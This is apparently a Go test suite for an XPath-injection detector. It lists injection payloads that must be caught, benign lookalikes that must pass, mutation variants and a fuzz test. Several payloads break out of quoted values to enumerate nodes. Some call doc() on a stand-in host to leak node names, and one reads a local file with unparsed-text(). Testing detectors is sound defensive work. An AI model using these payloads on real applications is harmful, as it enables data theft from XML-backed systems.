package detect

import (
	"strings"
	"testing"
)

func TestXPathCaught(t *testing.T) {
	f := func(s string) { t.Helper(); wantCaught(t, XPath, kindParam, s) }
	// The three of the class file.
	f("x' or count(parent::*)=1 or 'a'='b")
	f("7] | //account/*[position()=2")
	f("string-length(name(/*[1]))")
	// Break-outs with axes, paths and functions.
	f("' or name()='a' or 'b'='b")
	f("' or name(.)='a' or 'b'='c")
	f("x' and string-length(//user[1]/pw)=8 and 'a'='a")
	f("x' and starts-with(local-name(),'a') and '1'='1")
	f("\" or substring(name(parent::*[position()=1]),1,1)=\"a")
	f("' or position()=3 or '")
	f("x'] | //*[contains(*,'")
	f("')] | //user/* | a[('")
	f("a' or following-sibling::node() or 'b")
	f("x'|//*|'")
	f("')|//account/pw/text()|a[('b")
	f("1 or count(/*)=1")
	f("1 and string-length(pw)=5")
	f("x' or contains(//pw,'a') or 'a'='b")
	f("' or child::user/attribute::id='1")
	f("a b c d e f g h i j k l m n, count( /* )")
	f("')or (2=2)]/child::node()")
	f("'+(1 div 0)+'")
	f("substring(//a[b=5]/c,2,1)=codepoints-to-string(65)")
	// From the root, and out of the document.
	f("count(/child::node())")
	f("name(/*/*[2])")
	f("doc('http://h.example/x')")
	f("doc(concat('http://h.example/',name(/*)))")
	f("x' and doc-available('http://h.example/') and '1'='1")
	f("unparsed-text('file:///a')")
}

func TestXPathClean(t *testing.T) {
	f := func(s string) {
		t.Helper()
		for _, k := range []kind{kindParam, kindHeader, kindText, kindUA} {
			wantClean(t, XPath, k, s)
		}
	}
	// The three of the class file.
	f("//div[@class='price']/text()")
	f("parent::__construct($a, 'b'); self::count()")
	f("it's position (or name) = unknown")
	// Paths that people look for in pages.
	f("/html/body/div[1]/a")
	f("//*[@id='main']//a[contains(@href,'x')]")
	f("normalize-space(//h1)")
	f("count(//a[@href])")
	f("//a | //b")
	// Code, formulae, lists, patterns.
	f("a.position() == b.last() or $x->name() = 'y'")
	f("'a' or count(b) = 2")
	f("doc('users/7').get()")
	f("document('x')")
	f("std::string(name)")
	f("a[1] + count(b)")
	f("5 or name(s)")
	f("=COUNT(A1:A9)/SUM(B1:B9)*2")
	f("['a/b', 'c/d'] | sort")
	f("usr|bin|[a-z]/x")
	f("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	f("text/html (a/b): 'c' | d/e")
	f(strings.Repeat("A path expression asks for nodes, and a value may change what it asks. ", 6) + "Try x' or name()='a' or 'b'='b to see it.")
}

func TestXPathVariants(t *testing.T) {
	wantVariants(t, XPath, kindParam, []string{"x' or count(parent::*)=1 or 'a'='b", "x' or string-length(name(//a[1]))=3 or '1'='2", "x'] | //a/* | b['", "x' and name()='a' and '1'='1"}, []change{
		{"double quotes", replacer("'", `"`)}, {"blanks", replacer(" ", "\t ")}, {"line ends", replacer(" ", "\n")}, {"around ::", replacer("::", " :: ")},
		{"and", replacer(" or ", " and ")}, {"tight |", replacer(" | ", "|")}, {"not equal", replacer(")=", ")!=")}, {"greater", replacer(")=", ")>")},
		{"axis", replacer("parent::*", "ancestor-or-self::node()")}, {"closed", replacer("x'", "x')")}, {"descendant", replacer("//a", "/descendant::a")},
		{"before", func(s string) string { return "anna" + s }}, {"more", func(s string) string { return s + " or ''='" }},
	})
}

func FuzzXPath(f *testing.F) {
	tokenSeeds(f)
	f.Fuzz(func(t *testing.T, b []byte) {
		r := xpathReader{b: b}
		for at := 0; ; {
			tok := r.next()
			if tok.kind == xpathEnd {
				if tok.end != len(b) {
					t.Fatalf("%q: ends at %d", b, tok.end)
				}
				break
			}
			if tok.start < at || tok.end <= tok.start || tok.end > len(b) || (tok.class != 0) != (tok.kind == xpathFunction) {
				t.Fatalf("%q: token %+v behind %d", b, tok, at)
			}
			at = tok.end
		}
		rootWalk(b)
	})
}
